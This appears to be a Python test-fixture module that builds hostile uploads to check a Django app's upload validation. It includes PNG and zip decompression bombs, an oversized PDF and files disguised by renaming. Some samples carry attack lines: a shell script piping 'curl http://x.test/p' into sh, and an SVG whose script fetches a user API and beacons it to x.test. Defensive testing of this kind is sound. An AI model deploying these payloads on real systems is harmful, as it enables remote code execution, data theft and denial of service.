"""Hostile documents: each one a thing a real attacker or a careless sender would upload."""

import io
import struct
import zipfile
import zlib
from functools import cache

from django.core.files.uploadedfile import SimpleUploadedFile

from kernel.web.uploads import MAX_BYTES


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@cache
def png_bomb(side: int = 8_000) -> bytes:
    """A valid PNG of side × side one-bit pixels, all zero, that compresses to a few kilobytes:
    64 megapixels at 8,000, over our 40-megapixel budget (and under Pillow's own bomb limit,
    so it is our check that refuses it); decoded as RGB it would take 192 MB."""
    row = b"\x00" * (1 + side // 8)
    packer = zlib.compressobj()
    compressed = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", compressed)
        + _png_chunk(b"IEND", b"")
    )


@cache
def zip_bomb() -> bytes:
    """A zip whose one member inflates from about twenty kilobytes to 20 MB."""
    buffer = io.BytesIO()
    chunk = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("nota-fiscal.pdf", "w") as member,
    ):
        for _ in range(20):
            member.write(chunk)
    return buffer.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('/api/v1/me/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x.test',t))"
    b"</script></svg>"
)


@cache
def oversized_pdf() -> bytes:
    """A PDF header followed by padding: one byte over the 10 MB limit."""
    return b"%PDF-1.7\n" + b"0" * (MAX_BYTES + 1 - 9)


HOSTILE = {
    "script_renamed_pdf": ("nota-fiscal.pdf", b"#!/bin/sh\ncurl -s http://x.test/p | sh\n"),
    "html_renamed_pdf": ("nota.pdf", b"<html><script>alert(document.cookie)</script></html>"),
    "oversized": ("contrato.pdf", None),  # built lazily: 10 MB
    "png_bomb": ("foto.png", None),
    "zip_bomb_renamed_pdf": ("documentos.pdf", None),
    "svg_with_script": ("foto.svg", SVG_WITH_SCRIPT),
    "svg_renamed_png": ("foto.png", SVG_WITH_SCRIPT),
}

_BUILDERS = {"oversized": oversized_pdf, "png_bomb": png_bomb, "zip_bomb_renamed_pdf": zip_bomb}


def hostile_upload(kind: str) -> SimpleUploadedFile:
    name, content = HOSTILE[kind]
    content = content if content is not None else _BUILDERS[kind]()
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")
